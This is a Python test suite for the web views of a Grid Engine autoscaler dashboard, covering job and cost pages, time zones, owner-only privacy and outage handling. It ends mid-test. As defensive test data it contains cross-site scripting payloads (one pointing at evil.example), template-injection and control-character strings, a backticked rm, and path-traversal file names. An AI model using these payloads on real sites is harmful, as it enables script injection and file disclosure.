"""What the views show is what the answers say, for each user only what they may see."""

from __future__ import annotations

import html
import json
import re
from collections.abc import Mapping
from dataclasses import replace
from datetime import UTC, datetime
from decimal import Decimal
from html.parser import HTMLParser
from http import HTTPStatus
from pathlib import Path

import pytest
import requests

from autoscaler.api.answers import Asker, Reply, refusal
from autoscaler.api.relayed_answers import OLDER
from autoscaler.core.cost.shares import Payer
from autoscaler.core.events.event import EventKind, JobEvent
from autoscaler.core.events.events import PassEvents
from autoscaler.core.events.known import KnownEvents
from autoscaler.core.model.fleet import MachineState
from autoscaler.core.model.memory import Disabling
from autoscaler.core.policy import Limits
from autoscaler.errors import GridEngineNotObservable
from autoscaler.page.rendering import link
from autoscaler.report.lanes import find_lanes
from autoscaler.report.wording import instant
from autoscaler.store import history
from autoscaler.store.overrides import Verb
from autoscaler.store.usages import Run, RunKey
from tests.core.building import LARGE, NOW, a_bucket, a_host, a_job, a_machine, a_snapshot, a_worker, jobs
from tests.page.shown import PASSWORD, Site, a_site, served_apart, text_of

VIEWS = (
    "",
    "jobs",
    "workers",
    "lanes",
    "lanes?span=30d",
    "decisions",
    "cost",
    "cost?by=job",
    "cost?by=type",
    "cost.csv",
    "actions",
    "act?verb=pause",
    "job?subject=4711",
    "worker?subject=w1",
)


@pytest.mark.parametrize("path", VIEWS)
def test_a_view_is_strict_about_what_its_browser_loads(site: Site, path: str) -> None:
    site.observe(a_snapshot(a_job(4711, owner="ann"), a_worker("w1")))
    answer = site.browser().get(path)
    assert answer.status_code == 200
    policy = answer.headers["Content-Security-Policy"]
    assert "default-src 'none'" in policy
    assert "unsafe" not in policy
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    assert answer.headers["Cache-Control"] == "no-store"
    assert not re.search(r"<script(?![^>]*\bsrc=)|\sstyle=|\son\w+=|<style", answer.text)
    assert "http://" not in answer.text.replace(site.url, "")
    assert "https://" not in answer.text


def test_every_file_that_a_view_loads_is_served(site: Site) -> None:
    site.observe(a_snapshot())
    browser = site.browser()
    loaded = re.findall(r'(?:src|href)="(static/[^"]+)"', browser.get().text)
    assert len(loaded) >= 6
    answers = [browser.get(path) for path in loaded]
    assert [answer.status_code for answer in answers] == [200] * len(loaded)
    assert {answer.headers["Content-Type"].partition(";")[0] for answer in answers} == {
        "text/javascript",
        "text/css",
        "image/svg+xml",
    }


@pytest.mark.parametrize("name", ("../routes.py", "%2e%2e/routes.py", "vendored/../../routes.py", "nothing.js"))
def test_no_other_file_is_served(site: Site, name: str) -> None:
    sent = requests.Request("GET", f"{site.url}/page/static/").prepare()
    sent.url = f"{site.url}/page/static/{name}"
    assert requests.Session().send(sent, timeout=60).status_code == 404


def test_jobs_are_those_of_the_answer_with_reason_and_remedy(site: Site) -> None:
    site.observe(
        a_snapshot(a_job(4711, owner="ann", slots=100, waited=90), jobs(3, first=10, owner="bob"), a_host("h1"))
    )
    shown = site.browser("ann").text("jobs")
    (row,) = [row for row in site.loop.seen[0].jobs()["jobs"] if row["jobs"] == ["4711"]]  # type: ignore[index]
    assert row["cause"]["text"] in shown
    assert row["cause"]["owner_remedy"].replace("`", "").replace(" ", "") in shown.replace(" ", "")
    assert "4 tasks in 2 job categories" in shown
    assert shown.index("4711") < shown.index("bob")  # one's own first


def test_jobs_are_found_by_number_owner_and_reason(site: Site) -> None:
    site.observe(a_snapshot(a_job(4711, owner="ann", slots=100), jobs(3, first=10, owner="bob"), a_host("h1", slots=9)))
    browser = site.browser()
    assert "1 task in 1 job category" in browser.text("jobs?search=4711")
    assert "{" not in browser.text("jobs")  # no fact of a short text is left unfilled
    pills = re.findall(r'code=[A-Z_]+">([^<]+)<b>', browser.get("jobs").text)
    assert len(pills) == 2
    assert not [pill for pill in pills if pill.isupper()]
    assert "3 tasks in 1 job category" in browser.text("jobs?search=bo")
    assert "No waiting job matches" in browser.text("jobs?search=999")
    links = re.findall(r'href="(jobs\?[^"]*code=[^"]*)"', browser.get("jobs").text)
    assert len(links) == 2
    found = [browser.text(link.replace("&amp;", "&")) for link in links]
    assert sorted(re.search(r"(\d+) tasks? in 1 job category", each)[1] for each in found) == ["1", "3"]  # type: ignore[index]


def test_ten_thousand_categories_are_shown_page_by_page(site: Site) -> None:
    many = [a_job(number, owner=f"u{number % 40}", hard={"h_rt": str(number)}) for number in range(1, 10_001)]
    site.observe(a_snapshot(*many))
    browser = site.browser()
    first = browser.get("jobs")
    assert len(first.content) < 500_000
    assert "1–100 of 10000" in text(first)
    later = browser.get("jobs?first=9990")
    assert "9991–10000 of 10000" in text(later)
    assert first.text.count("<tr") == 101


def text(answer: requests.Response) -> str:
    return " ".join(re.sub(r"<[^>]*>", " ", answer.text).split())


def test_workers_are_those_of_the_answer(site: Site) -> None:
    site.observe(a_snapshot(a_worker("w1", used=2), a_worker("w2", idle=30.0), a_host("h1"), a_job(1)))
    browser = site.browser()
    shown = browser.text("workers")
    rows = site.loop.seen[0].workers()["workers"]  # type: ignore[index]
    assert {row["name"] for row in rows} == {"w1", "w2", "h1"}
    for row in rows:
        assert row["name"] in shown
        assert row["reason"]["text"] in shown
    idle = browser.text("workers?state=idle")
    assert ("w2" in idle, "w1" in idle.partition("Worker Phase")[2]) == (True, False)


def test_the_overview_says_what_needs_a_person(site: Site) -> None:
    site.observe(a_snapshot())
    assert "All is well" in site.browser().text()
    site.store.overrides.ask(Verb.PAUSE, who="eve", at=site.now[0])
    site.page.reader._kept.clear()
    site.answers._kept.clear()
    shown = site.browser().text()
    assert "Needs attention" in shown
    assert "paused by eve" in shown


def test_the_overview_says_which_jobs_can_never_start_and_leads_to_them(site: Site) -> None:
    site.observe(a_snapshot(a_job(4711, owner="ann", slots=100), a_host("h1")))
    browser = site.browser()
    shown = browser.text()
    assert "Needs attention" in shown
    assert "1 task fits nowhere, not proven unsatisfiable: " in shown
    assert "never start" not in shown
    (target,) = re.findall(r'<dd>[^<]*\(<a href="(jobs\?code=[A-Z_]+)"', browser.get().text)
    assert "4711" in browser.text(target)


def test_the_overview_names_a_limit_at_which_all_jobs_wait_for_long(site: Site) -> None:
    def capped(waited: float) -> str:
        workers = [a_worker(f"w{number}", used=2) for number in range(2)]
        site.observe(a_snapshot(jobs(9, owner="bob", waited=waited), *workers, limits=Limits(max_workers=2)))
        return site.browser().text()

    assert "All is well" in capped(600.0)
    site.page.reader._kept.clear()
    site.answers._kept.clear()
    assert "9 tasks at a limit, for up to 1h" in capped(3600.0)


def test_who_sees_only_own_jobs_is_told_of_none_of_others_that_can_never_start(tmp_path: Path) -> None:
    with a_site(tmp_path, owners_only=True) as site:
        site.observe(a_snapshot(a_job(4711, owner="ann", slots=100), a_host("h1")))
        assert "fits nowhere" in site.browser("ann").text()
        assert "Nothing of yours needs attention" in site.browser("bob").text()
        assert "No job of yours waits." in site.browser("bob").text("jobs")


NAMES = {1: "align_chr1", 2: "forecast", 3: "ALIGN-all"}


def test_jobs_are_found_by_a_part_of_their_name(tmp_path: Path) -> None:
    with a_site(tmp_path, names_now=lambda: NAMES) as site:
        site.observe(a_snapshot(a_job(1, owner="ann"), a_job(2, owner="bob"), a_job(3, owner="bob", slots=2)))
        shown = site.browser().text("jobs?search=align")
        assert "2 tasks in 2 job categories" in shown
        assert "1 align_chr1" in shown
        assert "3 ALIGN-all" in shown
        assert "forecast" not in shown
        assert "1 task in 1 job category" in site.browser().text("jobs?search=FORE")
        assert "No waiting job matches" in site.browser().text("jobs?search=chr2")


def test_the_number_of_a_job_that_runs_leads_to_its_story(site: Site) -> None:
    site.observe(a_snapshot(a_job(1), a_worker("w1", used=1)))
    shown = site.browser().get("jobs?search=9000").text
    assert "No waiting job matches. Job 9000 runs:" in text_of(shown)
    assert '<a href="job?subject=9000">its story</a>' in shown
    assert "its story" not in site.browser().text("jobs?search=12345678")


def test_the_number_of_a_job_of_others_tells_nothing_where_details_are_their_owners(tmp_path: Path) -> None:
    with a_site(tmp_path, owners_only=True) as site:
        site.observe(a_snapshot(a_job(1, owner="ann"), a_worker("w1", used=1)))
        assert "Job 9000 runs" in site.browser("ann").text("jobs?search=9000")
        assert "Job 9000" not in site.browser("bob").text("jobs?search=9000")


def test_a_worker_that_is_gone_costs_nothing_and_one_that_boots_has_no_alarming_marks(site: Site) -> None:
    booting = a_worker("w1", mark=Disabling.ENROL, heard=False, age=30.0)
    gone = a_machine("w2", state=MachineState.TERMINATED, price_per_hour=0.25)
    site.observe(a_snapshot(booting, gone))
    browser = site.browser()
    shown = browser.text("workers")
    assert "gone 1" in shown
    assert "leaving 0" in shown
    assert "0.25" not in shown
    assert not {"silent", "empty", "drained", "overdue"} & set(
        re.findall('class="mark">([a-z]+)', browser.get("workers").text)
    )


def test_times_within_sentences_are_shown_in_the_zone_of_the_link(site: Site) -> None:
    site.store.history.add_pass(3, NOW, "pass 3: asked again after 2026-11-28 04:45:56 UTC; see `qconf -sq`", {})
    shown = site.browser().get("decisions?zone=America/New_York").text
    assert "asked again after 2026-11-27 23:45:56 EST ; see qconf -sq" in text_of(shown)
    assert "<code>qconf -sq</code>" in shown
    assert "data-local" in site.browser().get("decisions").text.partition("asked again")[2].partition("qconf")[0]


def test_own_jobs_have_their_names_and_grid_engine_is_asked_for_them_once_in_a_while(tmp_path: Path) -> None:
    asked: list[str] = []

    def own(owner: str) -> dict[int, str]:
        asked.append(owner)
        return NAMES

    for owners_only in (False, True):
        folder = tmp_path / str(owners_only)
        folder.mkdir()
        with a_site(folder, owners_only=owners_only, own_names_now=own) as site:
            site.observe(a_snapshot(a_job(1, owner="ann"), a_job(2, owner="bob"), a_job(3, owner="bob", slots=2)))
            browser = site.browser("ann")
            for path in ("jobs", "jobs?owner=ann", "jobs?search=1"):
                shown = browser.text(path)
                assert "1 align_chr1" in shown
                assert "forecast" not in shown
            assert "align_chr1" not in site.browser("root").text("jobs")
    assert asked == ["ann", "ann"]  # one of each site: root has no jobs


def test_a_name_finds_no_job_of_others_where_details_are_their_owners(tmp_path: Path) -> None:
    with a_site(tmp_path, owners_only=True, names_now=lambda: NAMES) as site:
        site.observe(a_snapshot(a_job(1, owner="ann"), a_job(2, owner="bob"), a_job(3, owner="bob", slots=2)))
        assert "1 task in 1 job category" in site.browser("ann").text("jobs?search=align")
        assert "No waiting job matches" in site.browser("ann").text("jobs?search=forecast")


def test_a_search_says_if_grid_engine_did_not_name_its_jobs(tmp_path: Path) -> None:
    def silent() -> Mapping[int, str]:
        raise GridEngineNotObservable("qstat failed")

    with a_site(tmp_path, names_now=silent) as site:
        site.observe(a_snapshot(a_job(1, owner="ann")))
        said = "only owners and projects were searched"
        assert said in site.browser().text("jobs?search=ann")
        assert said not in site.browser().text("jobs")
        assert said not in site.browser().text("jobs?search=1")


def test_grid_engine_is_asked_for_names_once_in_a_while(tmp_path: Path) -> None:
    asked: list[int] = []

    def names() -> Mapping[int, str]:
        asked.append(1)
        return NAMES

    with a_site(tmp_path, names_now=names) as site:
        site.observe(a_snapshot(a_job(1, owner="ann"), a_job(2, owner="bob")))
        for path in ("jobs", "jobs?search=1", "jobs?search=align", "jobs?search=fore", "jobs?search=align&code=FITS"):
            site.browser().get(path)
    assert asked == [1]


def test_an_unknown_zone_is_said_to_be_that_of_the_cell(site: Site) -> None:
    site.observe(a_snapshot(a_job(1)))
    shown = site.browser().text("jobs?zone=Nowhere/X")
    assert "Times are in the zone of the cell." in shown
    assert "zone: Nowhere/X is not known here: write one as Europe/Berlin or UTC, or cell" in shown
    assert "Times are in the zone Europe/Berlin." in site.browser().text("jobs?zone=europe/berlin")


@pytest.mark.parametrize(
    ("path", "said"),
    (
        ("cost?month=2026-13&by=type", "month: 2026-13 is left out: write a month as 2026-11"),
        ("cost?by=wrong", "by: wrong is left out: write one of user, "),
        ("decisions?kind=lunch", "kind: lunch is left out: write one of "),
        ("decisions?before=x", "before: x is left out: write a whole number"),
        ("workers?state=asleep", "state: asleep is left out: write one of idle, busy, "),
        ("?span=1y", "span: 1y is left out: write one of 10m, "),
        ("jobs?first=-1", "first: -1 is left out: write a whole number"),
    ),
)
def test_what_of_a_link_does_not_hold_is_said_and_the_rest_is_kept(site: Site, path: str, said: str) -> None:
    site.observe(a_snapshot(a_job(1)))
    browser = site.browser()
    assert said in browser.text(path)
    assert "is left out" not in browser.text(path.partition("?")[0])


def test_a_table_for_a_spreadsheet_of_no_month_is_refused_and_one_of_this_month_names_it(site: Site) -> None:
    browser = site.browser()
    assert browser.get("cost.csv?month=2026-13").status_code == 400
    assert "cost-user-2027-01.csv" in browser.get("cost.csv").headers["Content-Disposition"]


@pytest.mark.parametrize(
    ("at", "passes"),
    (
        ("2026-11-28 04:45:30", {1}),
        ("2026-11-28T04:45:56", {1, 2}),
        ("2026-11-28T04:45", {1, 2}),
        ("2026-11-28T04:45:00Z", {1}),
        ("2026-11-28", {1, 2, 3}),
        ("2026-11-27", set()),
    ),
)
def test_a_typed_time_means_all_of_what_it_names(site: Site, at: str, passes: set[int]) -> None:
    """A second, a minute or a day, in the zone of the link."""
    for number, clock in ((1, "04:44:59"), (2, "04:45:56"), (3, "23:59:59"), (4, "23:59:59")):
        day = 29 if number == 4 else 28
        when = datetime.fromisoformat(f"2026-11-{day}T{clock}+00:00").timestamp()
        site.store.history.add_pass(number, when, f"the {number}th pass", {})
    site.now[0] = datetime.fromisoformat("2026-11-30T00:00+00:00").timestamp()
    shown = site.browser().text(f"decisions?zone=UTC&at={at}")
    assert {number for number in range(1, 5) if f"the {number}th pass" in shown} == passes


def test_figures_of_the_overview_are_those_of_status_and_lead_to_what_they_count(site: Site) -> None:
    site.observe(a_snapshot(jobs(7, owner="ann"), a_worker("w1"), a_worker("w2")))
    html = site.browser().get().text
    answer = requests.get(f"{site.url}/answers/v1/status", auth=("root", PASSWORD), timeout=60).json()
    status = answer["document"]
    figures = re.findall(r'<a href="([^"]+)"><b>([^<]+)</b> <span>([^<]+)', html)
    assert (f"{status['workers']}", "workers") in [(number, what) for _, number, what in figures]
    assert {target for target, _, _ in figures} == {"jobs", "workers", "cost"}


# -- decisions, cost, lanes --------------------------------------------------------------------------------------------


def test_the_overview_shows_the_number_of_the_pass_that_it_names(site: Site) -> None:
    """Other counts alone are no news for a minute, and no row of the history."""
    for later, tasks in ((0, 65), (10, 38)):
        site.observe(a_snapshot(jobs(tasks, slots=100), now=NOW + later))
    assert len(site.store.history.passes()) == 1
    shown = site.browser().text()
    assert "38 waiting tasks" in shown
    assert "As of pass 8" in shown
    answer = requests.get(f"{site.url}/answers/v1/status", auth=("root", PASSWORD), timeout=30).json()["document"]
    assert answer["waiting"] == 38


def test_a_decision_has_its_reasons_and_what_was_considered(site: Site) -> None:
    site.observe(a_snapshot(a_job(4711, owner="ann", slots=2, waited=4200), now=NOW - 3600))
    site.observe(a_snapshot(a_worker("w1", idle=9999.0)))
    browser = site.browser()
    shown = browser.text("decisions")
    stored = site.store.history.passes(9)
    assert all(one.sentence in shown for one in stored)
    launch = next(action for one in stored for action in one.document["actions"] if action["kind"] == "launch")
    assert launch["reason"]["text"] in shown
    assert "1 offer considered" in shown
    only = browser.text("decisions?kind=launch")
    assert (stored[1].sentence in only, stored[0].sentence in only) == (True, False)
    at = datetime.fromtimestamp(NOW - 3000, UTC).strftime("%Y-%m-%dT%H:%M")
    earlier = browser.text(f"decisions?at={at}&zone=UTC")
    assert (stored[1].sentence in earlier, stored[0].sentence in earlier) == (True, False)
    assert "is not a time" in browser.text("decisions?at=yesterday")


def test_a_search_for_decisions_reads_a_bounded_part_and_says_where_to_go_on(
    site: Site, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(history, "MOST_SEARCHED", 10)
    for number in range(25):
        kind = "launch" if number == 3 else "disable"
        site.store.history.add_pass(number, NOW + number, f"pass {number}", {"actions": [{"kind": kind}]})
    found, pages, before = [], 0, None
    while True:
        rows, before = site.store.history.passes_between(0, NOW + 99, kind="launch", before=before, limit=5)
        found += [record.number for _, record in rows]
        pages += 1
        if before is None:
            break
    assert (found, pages) == ([3], 3)
    rows, before = site.store.history.passes_between(0, NOW + 99, limit=5)
    assert ([record.number for _, record in rows], before) == ([24, 23, 22, 21, 20], rows[-1][0])


def test_what_is_considered_takes_few_bytes_of_a_pass(site: Site) -> None:
    """At most 12 offers: the budget that `docs/operate/page.md` names."""
    offers = [a_bucket(LARGE)] + [
        a_bucket(replace(LARGE, name=f"m5.size{number}"), price=1.0 + number) for number in range(300)
    ]
    site.observe(a_snapshot(a_job(4711, owner="ann", slots=2, waited=600), *offers, hybrid=True))
    (stored,) = site.store.history.passes(9)
    assert 1 <= len(stored.document["considered"]) <= 12
    assert len(json.dumps(stored.document["considered"])) <= 8192


def test_cost_adds_up_with_idle_time_as_a_row_of_its_own_and_the_csv_is_the_answers(site: Site) -> None:
    site.observe(a_snapshot(a_worker("w1", age=7200.0, price_per_hour=0.5), a_job(1)))
    site.now[0] = NOW + 60
    shown = site.browser().text("cost?by=user")
    assert "(idle: slots that nobody used)" in shown
    auth = ("root", PASSWORD)
    answer = requests.get(f"{site.url}/answers/v1/cost", {"by": "user", "form": "csv"}, auth=auth, timeout=60).json()
    csv = site.browser().get("cost.csv?by=user")
    assert csv.text == answer["document"]
    assert csv.headers["Content-Type"].startswith("text/csv")
    assert csv.headers["Content-Disposition"] == 'attachment; filename="cost-user-2027-01.csv"'
    total = float(re.search(r"sum of \d+ rows? \S+ ([\d.]+)", shown)[1])  # type: ignore[index]
    rows = [float(line.split(",")[2]) for line in csv.text.splitlines()[1:]]
    assert sum(rows) == pytest.approx(total, abs=0.005)


@pytest.mark.parametrize("by", ("user", "job", "type", "worker", "month"))
def test_amounts_of_a_cost_table_have_as_many_decimals_and_add_up_as_shown(site: Site, by: str) -> None:
    workers = [a_worker(f"w{n}", age=7200.0 / (n + 1), price_per_hour=0.5 / 3) for n in range(5)]
    site.observe(a_snapshot(*workers, a_job(1)))
    runs = [
        Run(RunKey(f"i-w{n}", 7 + n, 0), Payer(f"u{n % 2}"), 1, NOW - 3000 + 700 * n, NOW - 400 + 77 * n)
        for n in range(4)
    ]
    site.store.usages.account(runs)
    site.now[0] = NOW + 60
    page = site.browser().get(f"cost?by={by}").text
    rows = re.findall(r'<tr.*?data-head="USD">([^<]+)<.*?</tr>', page, re.DOTALL)
    *amounts, total = rows
    assert len(amounts) >= 1
    assert len({len(each.partition(".")[2]) for each in rows}) == 1
    assert sum(map(Decimal, amounts)) == Decimal(total) > 0
    used, idle, starting = re.findall(r"<b>(?:&lt; )?(\d+) %</b>", page)
    assert 98 <= int(used) + int(idle) + int(starting) <= 102
    assert int(used) > 0 < int(idle)


@pytest.mark.parametrize(
    ("path", "shown"),
    (("", "0.288 USD an hour"), ("workers", "0.096 USD"), ("lanes?span=1h", "0.096 USD")),
)
def test_prices_an_hour_have_three_decimals_as_commands_show_them(site: Site, path: str, shown: str) -> None:
    site.observe(a_snapshot(*(a_worker(f"w{n}", price_per_hour=0.096) for n in range(3))))
    said = site.browser().text(path)
    assert shown in said
    assert "0.0960" not in said


def test_a_cap_needs_a_person_after_the_time_that_notifications_wait(site: Site) -> None:
    waiting = a_snapshot(a_job(1, waited=400.0), a_worker("w1", used=2), limits=Limits(max_workers=1))
    site.page.limit_after = 600.0
    site.observe(waiting)
    browser = site.browser()
    assert "limit reached" not in browser.text()
    site.page.limit_after = 300.0
    assert "limit reached" in browser.text()


def test_a_decision_links_to_its_moment_in_whatever_zone_it_is_shown(site: Site) -> None:
    site.observe(a_snapshot(a_job(1, waited=400.0)))
    browser = site.browser()
    for zone in ("", "&zone=Asia/Tokyo"):
        page = browser.get(f"decisions?kind=launch{zone}").text
        (target,) = re.findall(r'<h2><a href="([^"]+)">', page)
        found = browser.get(html.unescape(target)).text
        assert "launching" in found
        assert ("zone=Asia%2FTokyo" in target) is bool(zone)
        earlier = re.sub(r"at=[^&]+", "at=2027-01-15T07%3A00%3A00%2B00%3A00", html.unescape(target))
        assert "launching" not in browser.get(earlier).text


def test_a_lane_has_boot_jobs_and_idle_time(site: Site) -> None:
    site.observe(a_snapshot(a_worker("w1", age=3000.0), now=NOW))
    site.store.usages.begin([Run(RunKey("i-w1", 5, 0), Payer("ann"), 1, NOW + 600)])
    site.store.usages.end(site.store.usages.running().values(), NOW + 1200)
    site.now[0] = NOW + 1800
    document = find_lanes(site.store, {"since": "2h"}, site.now[0])
    parts = [(part["what"], _seconds(part)) for part in document["lanes"][0]["parts"]]
    assert parts == [("boot", 3000.0), ("idle", 600.0), ("busy", 600.0), ("idle", 600.0)]
    html = site.browser().get("lanes?span=6h").text
    assert re.findall(r'<rect class="(\w+)"', html) == ["boot", "idle", "busy", "idle"]


def _seconds(part: dict[str, str]) -> float:
    return (datetime.fromisoformat(part["to"]) - datetime.fromisoformat(part["from"])).total_seconds()


def test_a_job_has_a_story(site: Site) -> None:
    site.observe(a_snapshot(a_job(4711, owner="ann", slots=100), a_host("h1")))
    submitted = JobEvent(EventKind.SUBMITTED, NOW - 60, NOW - 60, NOW, jobs="4711", owner="ann", count=1)
    site.store.events.keep(PassEvents(KnownEvents(), (submitted,)))
    shown = site.browser("ann").text("job?subject=4711")
    assert "job 4711 waits" in shown
    assert "job 4711 of ann submitted" in shown
    assert site.browser().get("job?subject=99999999").status_code == 404
    unnamed = site.browser().get("job?subject=")
    assert unnamed.status_code == 400
    assert "names no job, worker or launch" in unnamed.text


# -- owner mode --------------------------------------------------------------------------------------------------------


def test_if_details_are_their_owners_a_user_finds_nothing_of_others(tmp_path: Path) -> None:
    with a_site(tmp_path, owners_only=True) as site:
        site.observe(
            a_snapshot(
                a_job(4711, owner="ann", project="secret-a", waited=900),
                a_job(4812, owner="bob", slots=2, project="secret-b", waited=900),
                a_worker("w1", price_per_hour=0.5),
            )
        )
        site.now[0] = NOW + 60
        site.store.usages.begin([Run(RunKey("i-w1", 4812, 0), Payer("bob", project="secret-b"), 1, NOW - 600)])
        own, other = site.browser("ann"), site.browser("bob")
        asked_for = ("jobs?search=bob", "jobs?search=4812", "jobs?owner=bob", "cost?by=user", "cost?by=project")
        for path in (*VIEWS, *asked_for, "cost.csv?by=user", "cost.csv?by=job", "decisions?kind=launch"):
            if path != "act?verb=pause":  # only who acts is asked
                asked = re.escape(path.partition("=")[2] or "-")
                answer = re.sub(rf'(search=|value="|owner=|<b>){asked}', "", own.get(path).text)
                assert not re.search(r"4812|secret-b|\bbob\b", answer), path
        assert own.get("job?subject=4812").status_code == 403
        assert "4711" in own.text("jobs")
        assert "4812" in other.text("jobs")
        assert {"4711", "4812"} <= set(re.findall(r"\d{4}", site.browser("root").text("jobs")))
        assert "bob" in site.browser("root").text("cost?by=user")


# -- text of others ----------------------------------------------------------------------------------------------------

HOSTILE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "' hx-get='//evil.example' hx-trigger='load",
    "{{ 7 * 7 }}{% include 'login.html' %}",
    "javascript:alert(1)",
    "\u202egnp.exe\x1b[2J\x00",
    "`rm`<b>&amp;",
)


@pytest.mark.parametrize("text", HOSTILE)
def test_text_of_others_stays_text(site: Site, text: str) -> None:
    job = a_job(4711, owner=text, project=text, slots=100, hard={text: text})
    site.observe(a_snapshot(job, a_worker("w1"), a_host(f"h{text}")))
    site.store.overrides.ask(Verb.PAUSE, who=text, at=NOW)
    browser = site.browser()
    for path in (*VIEWS, link("jobs", search=text), link("jobs", owner=text), link("job", subject=text)):
        html = browser.get(path).text
        if path.endswith(".csv"):
            continue
        found = Elements()
        found.feed(html)
        assert found.odd == [], path
        assert not re.search("[\x00-\x08\x1b\u202e]", html), path


class Elements(HTMLParser):
    """Elements and attributes that no template has."""

    OURS = frozenset(
        re.split(
            r"\s+",
            """html head meta title link script noscript body a header p strong span nav ul li form button div main h1
            h2 dl dt dd section b small details summary table thead tbody tr th td time ol input label select option
            code svg rect article caption""",
        )
    )

    def __init__(self) -> None:
        super().__init__()
        self.odd: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        names = {name for name, _ in attrs}
        ours = tag == "title" or tag in self.OURS
        if not ours or names & {"style", "srcset"} or any(name.startswith("on") for name in names):
            self.odd.append(f"{tag} {attrs}")
        if tag == "script" and not str(dict(attrs).get("src", "")).startswith("static/"):
            self.odd.append(f"{tag} {attrs}")
        if (
            any(name.startswith("hx-") for name in names)
            and dict(attrs).get("id") not in ("view", "stream")
            and names & {"hx-get"}
        ):
            self.odd.append(f"{tag} {attrs}")
        href = str(dict(attrs).get("href", ""))
        if (href and not re.match(r"(\./|#view|static/|[a-z.]+\??)", href)) or href.startswith("javascript"):
            self.odd.append(f"{tag} {attrs}")


# -- without an answer -------------------------------------------------------------------------------------------------


def test_while_the_autoscaler_is_down_the_page_shows_what_its_store_knows(site: Site) -> None:
    site.observe(a_snapshot(a_job(4711, owner="ann", slots=2, waited=4200), a_worker("w1")))
    relay, ann = served_apart(site), site.browser("ann")
    relay.silent = "no autoscaler runs on this machine now: `sge-autoscaler run` starts one"
    shown = ann.text()
    assert "Needs attention" in shown
    assert "The autoscaler does not answer: no autoscaler runs on this machine now: sge-autoscaler run starts" in shown
    assert "autoscaler not running" in shown
    assert "Last decisions" in shown
    assert "waiting tasks" in shown
    for path in ("decisions", "cost", "lanes", "actions"):
        assert "This is what its store still knows" in ann.text(path), path
    assert relay.asked == 1  # one question tells that it hangs, and may take seconds
    answer = ann.get("jobs")
    assert answer.status_code == 503
    assert "`" not in answer.text
    assert "What the store still knows: Overview" in text_of(answer.text)
    assert ann.get("alive").status_code == 503


def test_an_autoscaler_that_makes_no_passes_any_more_is_said_to_hang(site: Site) -> None:
    site.answers.polling_delay = lambda: 30.0
    site.observe(a_snapshot(a_worker("w1")))
    browser = site.browser()
    site.loop.quiet_s = 480.0  # an idle one makes a pass every six polls
    site.now[0] += 480.0
    assert browser.get("alive").status_code == 200
    assert "hangs" not in browser.text()
    site.loop.quiet_s += 1.0
    site.now[0] += 1.0
    site.page.feed.publish()
    answer = browser.get("alive")
    assert answer.status_code == 504
    assert answer.text.startswith(f"no pass has begun or ended since {instant(NOW)}: the autoscaler hangs. `journalctl")
    for path in ("", "workers"):
        assert "no pass has begun or ended since" in browser.text(path), path
    assert "Needs attention" in browser.text()
    site.observe(a_snapshot(a_worker("w1"), now=site.now[0]))
    assert (browser.get("alive").status_code, browser.get("alive").text) == (200, "")


def test_an_autoscaler_that_never_ended_a_pass_is_said_to_hang(site: Site) -> None:
    site.answers.polling_delay = lambda: 30.0
    assert site.browser().get("alive").status_code == 200
    site.loop.quiet_s = 481.0
    site.page.feed.publish()
    assert site.browser().get("alive").status_code == 504


def test_an_autoscaler_whose_passes_fail_does_not_hang(site: Site) -> None:
    site.answers.polling_delay = lambda: 30.0
    site.observe(a_snapshot(a_worker("w1")))
    site.now[0] += 3600.0  # the last pass that observed
    site.loop.unobserved, site.loop.quiet_s = "qstat did not answer", 30.0
    browser = site.browser()
    assert browser.get("alive").status_code == 200
    assert "hangs" not in browser.text()
    assert "qstat did not answer" in browser.text()


def test_beside_an_older_autoscaler_a_view_says_what_to_do(site: Site, monkeypatch: pytest.MonkeyPatch) -> None:
    site.observe(a_snapshot(a_job(4711, owner="ann")))
    relay, answered = served_apart(site), site.answers.answer

    def older(question: str, query: Mapping[str, str], asker: Asker) -> Reply:
        if question == "waiting":
            return refusal(HTTPStatus.NOT_IMPLEMENTED, OLDER)
        return answered(question, query, asker)

    monkeypatch.setattr(relay, "answer", older)
    answer = site.browser().get("jobs")
    assert answer.status_code == 501
    shown = text_of(answer.text)
    assert "the autoscaler that runs is of an earlier version than this server" in shown
    assert "systemctl restart sge-autoscaler starts the version that is installed" in shown
    assert "Other views: Overview" in shown
    assert site.browser().get("").status_code == 200


def test_all_that_views_ask_is_what_the_answers_take(site: Site) -> None:
    """`serve` passes questions on over HTTP, where the autoscaler refuses what it does not know."""
    site.observe(a_snapshot(a_job(4711, owner="ann", slots=2), a_worker("w1")))
    relay, browser = served_apart(site), site.browser()
    paths: tuple[str, ...] = (
        "",
        "jobs?search=9&owner=ann&code=CAPPED",
        "job?subject=4711",
        "workers",
        "lanes?search=w",
    )
    paths += (
        "cost?by=type",
        "decisions?kind=launch&at=2026-11-28&before=9",
        "actions",
        "act?verb=drain&host=w1",
        "cost.csv",
    )
    for path in paths:
        assert browser.get(path).status_code in (200, 404), path
    assert len({question for question, _ in relay.questions}) >= 8
    for question, query in relay.questions:
        answer = requests.get(f"{site.url}/answers/v1/{question}", query, auth=("root", PASSWORD), timeout=30)
        assert answer.status_code in (200, 404), (question, query, answer.text)


def test_the_store_shows_no_more_of_others_than_the_autoscaler_did(site: Site) -> None:
    site.observe(a_snapshot(a_job(4711, owner="eve", slots=2, waited=4200)))
    site.store.history.add_pass(2, NOW, "pass 2: holding job 4711", {})
    served_apart(site, owners_only=True).silent = "it hangs"
    assert "4711" in site.browser("root").text("decisions")
    for path in ("", "decisions"):
        assert "4711" not in site.browser("ann").text(path)


def test_before_the_first_pass_the_page_says_so(site: Site) -> None:
    answer = site.browser().get("jobs")
    assert (answer.status_code, "no pass has been made yet" in answer.text) == (503, True)


def test_times_are_in_the_zone_of_the_link(site: Site) -> None:
    site.observe(a_snapshot(a_job(1, owner="ann")))
    browser = site.browser()
    assert "JST" in browser.text("jobs?zone=Asia/Tokyo")
    assert "data-local" not in browser.get("jobs?zone=Asia/Tokyo").text
    assert "zone=Asia%2FTokyo" in browser.get("jobs?zone=Asia/Tokyo").text  # links keep it
    assert browser.get("jobs?zone=../../etc/passwd").status_code == 200


def test_the_answer_waiting_is_served_to_programs_too(site: Site) -> None:
    site.observe(a_snapshot(a_job(4711, owner="ann"), jobs(3, first=10, owner="bob"), now=NOW))
    asked = f"{site.url}/answers/v1/waiting"
